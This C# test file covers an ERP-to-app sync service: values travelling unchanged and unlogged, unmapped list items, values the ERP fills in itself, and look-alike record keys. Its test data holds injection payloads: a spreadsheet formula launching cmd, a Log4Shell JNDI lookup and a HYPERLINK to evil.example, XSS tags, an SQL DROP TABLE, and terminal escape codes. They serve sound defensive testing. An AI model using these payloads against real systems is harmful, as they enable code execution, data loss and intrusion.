using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace ErpLink.Scenarios.Values;

/// <summary>Values and keys that something on the way could take for more than data.</summary>
public sealed class HostileValues : IDisposable
{
    private readonly World _world = new();
    private readonly List<string> _logged = [];

    public HostileValues() => _world.Services = services => services.AddSingleton<ILoggerFactory>(new Listening(_logged));

    public static TheoryData<string> Texts => new(
        "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"https://evil.example\")",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&amp;quot;",
        "two\r\nlines", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "a\u2028b\u202eevil", "${jndi:ldap://evil.example}", "{0} {Connection} %s %n",
        "'; DROP TABLE links; --", "\u200bzero", "\ufeffmark");

    public void Dispose() => _world.Dispose();

    [Theory, MemberData(nameof(Texts)), Trait("Catalogue", "63"), Trait("Catalogue", "64"), Trait("Catalogue", "67")]
    public async Task A_text_travels_as_it_is_and_is_in_no_log(string text)
    {
        var company = _world.App.Add(World.Company, "c1", ("name", text), ("phone", "1"));
        var customer = _world.Erp.Add(World.Customer, "1", ("name", text), ("phone", "1"));
        var node = _world.Start();
        await node.LinkAsync(company, customer);
        _world.App.Edit(company, "phone", text);
        _world.Erp.Edit(customer, "web", text);
        for (var i = 0; i < 3; i++) (await node.RunAsync(RunKind.Full)).State.Should().Be(RunState.Completed);
        _world.Erp.Value(customer, "phone").Should().Be(FieldValue.Text(text), "data is not changed for the sake of whoever shows it");
        _world.App.Value(company, "web").Should().Be(FieldValue.Text(text));
        (_world.App.Updates, _world.Erp.Updates).Should().Be((1, 1));

        // A failure with the server's words, and a key of the same kind: the words are for the person in front of the inbox.
        var odd = _world.App.Add(World.Company, $"k{text}", ("name", "Voss AS"));
        await node.LinkAsync(odd, _world.Erp.Add(World.Customer, $"k{text}", ("name", "Voss AS")));
        _world.Erp.Refuse = (field, _) => field == "fax" ? $"Refused: {text}" : null;
        _world.App.Edit(odd, "fax", text);
        await node.RunAsync(RunKind.Full);
        (await node.OpenItemAsync(InboxItemKind.Parked)).Failure!.Message.Should().Contain(text);
        _logged.Should().NotBeEmpty().And.NotContain(l => l.Contains(text) || l.Any(char.IsControl));
    }

    [Fact, Trait("Catalogue", "54")]
    public async Task An_item_of_a_list_that_nobody_paired_holds_its_field_and_the_others_go_on()
    {
        _world.Companies(k => k with { Fields = [.. k.Fields, new("segment", FieldType.ListItem) { List = "segments" }] });
        _world.Customers(k => k with { Fields = [.. k.Fields, new("group", FieldType.ListItem) { List = "groups" }] });
        _world.App.Lists["segments"] = ["gold"];
        _world.Erp.Lists["groups"] = ["A"];
        _world.Map = map => map.Both(app: "segment", erp: "group");
        _world.Connection = connection => connection.List("segments", "groups", list => list.Pair("gold", "A").OnUnmapped(UnmappedItem.Skip));
        var company = _world.App.Add(World.Company, "c1", ("name", "Voss AS"), ("segment", FieldValue.ListItem("gold")));
        var customer = _world.Erp.Add(World.Customer, "1", ("name", "Voss AS"), ("group", FieldValue.ListItem("A")));
        var node = _world.Start();
        await node.LinkAsync(company, customer);
        _world.Erp.Edit(customer, "group", FieldValue.ListItem("nobody knows"));
        _world.Erp.Edit(customer, "phone", "55");
        for (var i = 0; i < 2; i++) await node.RunAsync(RunKind.Full);
        _world.App.Value(company, "phone").Should().Be(FieldValue.Text("55"), "the record goes on");
        _world.App.Value(company, "segment").Should().Be(FieldValue.ListItem("gold"), "the field is held");
        _world.Erp.Updates.Should().Be(0, "and the unknown item is not put back");
        (await node.OpenItemsAsync()).Should().Contain(i => i.Failure != null && i.Failure.Code == ErrorCodes.ListItemUnmapped);
    }

    [Theory, Trait("Catalogue", "58"), InlineData(true), InlineData(false)]
    public async Task What_the_ERP_fills_in_by_itself_on_a_create_is_no_edit_of_a_user(bool answers)
    {
        _world.Customers(k => k with { ReturnsStoredValues = answers });
        _world.Erp.OnSave = row =>
        {
            if (row.Values["web"].IsNull) row.Values["web"] = "https://default.example";
        };
        var company = _world.App.Add(World.Company, "c1", ("name", "Voss AS"), ("phone", "1"));
        var node = _world.Start();
        (await node.CreateAsync(company)).Status.Should().Be(CreateStatus.Created);
        var customer = (await node.LinkOfAsync(company))!.Actor!.Value;
        for (var i = 0; i < 3; i++) await node.RunAsync(RunKind.Full);
        (await node.OpenItemsAsync()).Should().BeEmpty("there is nothing to ask");
        var (appUpdates, erpUpdates) = (_world.App.Updates, _world.Erp.Updates);
        for (var i = 0; i < 2; i++) await node.RunAsync(RunKind.Full);
        (_world.App.Updates, _world.Erp.Updates).Should().Be((appUpdates, erpUpdates), "it is quiet");

        // An edit in the app is no conflict with it.
        _world.App.Edit(company, "web", "https://voss.example");
        await node.RunAsync(RunKind.Full);
        _world.Erp.Value(customer, "web").Should().Be(FieldValue.Text("https://voss.example"));
        (await node.OpenItemsAsync()).Should().BeEmpty();
    }

    [Theory, Trait("Catalogue", "59")]
    [InlineData("ABC", "abc"), InlineData("\u00c9", "E\u0301"), InlineData("a", "a\u200b"), InlineData("a", "a\u00a0"), InlineData("\u0130", "i"), InlineData("aa", "\u00e5"), InlineData("K", "\u212a"),
        InlineData("12", "\uff11\uff12"), InlineData("0012", "12")]
    public async Task Keys_that_look_alike_are_two_where_the_side_says_so_and_one_where_it_says_that(string one, string other)
    {
        var node = _world.Start();
        var (first, second) = (_world.App.Add(World.Company, "c1", ("name", "Voss AS")), _world.App.Add(World.Company, "c2", ("name", "Voss AS")));
        await node.LinkAsync(first, _world.Erp.Add(World.Customer, one, ("name", "Voss AS")));
        await node.LinkAsync(second, _world.Erp.Add(World.Customer, other, ("name", "Voss AS")));
        (await node.LinkOfAsync(first))!.Actor!.Value.Key.Text.Should().Be(one);
        (await node.LinkOfAsync(second))!.Actor!.Value.Key.Text.Should().Be(other, "each is asked for as the side spells it");
        _world.App.Edit(second, "phone", "2");
        await node.RunAsync(RunKind.Full);
        (_world.Erp[World.Customer, one].Values["phone"], _world.Erp[World.Customer, other].Values["phone"]).Should().Be((FieldValue.Null, FieldValue.Text("2")));
    }

    [Fact, Trait("Catalogue", "59")]
    public async Task A_second_link_to_one_record_under_another_spelling_of_its_key_is_refused_and_names_the_holder()
    {
        _world.Customers(k => k with { KeyEquality = KeyEquality.IgnoreCase });
        var node = _world.Start();
        var (first, second) = (_world.App.Add(World.Company, "c1", ("name", "Voss AS")), _world.App.Add(World.Company, "c2", ("name", "Voss AS")));
        _world.Erp.Add(World.Customer, "Kunde-\u00e9", ("name", "Voss AS"));
        _world.Erp.Add(World.Customer, "KUNDE-\u00c9", ("name", "Voss AS"));
        await node.LinkAsync(first, new RecordRef(World.Customer, "Kunde-\u00e9"));
        var result = await node.ConnectAsync(second, new RecordRef(World.Customer, "KUNDE-\u00c9"));
        (result.Status, result.Holder!.Entity).Should().Be((ConnectStatus.Taken, first));
        (await node.LinkOfAsync(second)).Should().BeNull();
    }

    private sealed class Listening(List<string> logged) : ILoggerFactory, ILogger
    {
        public ILogger CreateLogger(string categoryName) => this;

        public void AddProvider(ILoggerProvider provider) { }

        public void Dispose() { }

        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull
            => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
        {
            lock (logged) logged.Add(formatter(state, exception) + exception);
        }
    }
}
